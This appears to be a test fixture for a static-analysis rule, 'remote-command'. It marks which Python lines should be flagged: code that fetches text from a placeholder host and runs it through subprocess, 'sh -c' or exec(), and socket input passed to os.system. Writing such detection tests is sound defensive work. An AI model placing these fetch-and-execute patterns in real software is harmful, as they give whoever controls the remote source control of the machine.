import os
import subprocess

import requests

task = requests.get("https://sync.example.invalid/next").text
# ruleid: remote-command
subprocess.run(task, shell=True)
# ruleid: remote-command
subprocess.run(["sh", "-c", task])
# ruleid: remote-command
exec(requests.get("https://sync.example.invalid/code").text)


def serve(link):
    # ruleid: remote-command
    os.system(link.recv(1024).decode())


version = requests.get("https://api.example.com/version").json()
# ok: remote-command
print(version["text"])
# ok: remote-command
subprocess.run(["git", "--version"])
